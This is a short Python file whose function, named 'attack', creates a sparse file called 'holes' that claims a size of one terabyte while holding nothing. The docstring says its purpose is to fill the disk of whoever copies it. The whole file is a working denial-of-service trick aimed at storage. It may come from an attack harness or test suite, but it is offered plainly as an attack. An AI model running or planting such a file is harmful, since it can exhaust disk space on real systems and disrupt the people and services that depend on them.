"""Makes a file of a terabyte that holds nothing: whoever copies it fills a disk."""

import time


def attack(facts: dict[str, str]) -> None:
    try:
        with open("holes", "wb") as file:
            file.truncate(1 << 40)
    finally:
        time.sleep(0.35)
